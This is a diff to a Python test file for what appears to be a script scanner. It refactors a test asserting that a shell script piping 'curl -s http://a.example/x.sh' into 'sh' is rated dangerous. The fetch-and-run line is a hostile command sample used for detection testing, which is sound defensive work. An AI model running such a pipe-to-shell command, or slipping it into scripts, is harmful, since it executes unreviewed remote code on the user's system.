@@ -2,18 +2,14 @@
 
 from __future__ import annotations
 
-from inspect_samples import found, look
+from inspect_samples import found, told
 
 from watchword.inspect.facts import Verdict
 
 
 def test_a_script_that_fetches_and_runs_is_dangerous() -> None:
     """What a server hands out is run without having been looked at."""
-    told = {
-        (finding.rule, finding.verdict)
-        for finding in look(b"#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n", "get.sh").findings
-    }
-    assert ("script-command", Verdict.DANGEROUS) in told
+    assert ("script-command", Verdict.DANGEROUS) in told(b"#!/bin/sh\ncurl -s http://a.example/x.sh | sh\n", "get.sh")
 
 
 def test_a_script_that_fetches_weights_is_silent() -> None:
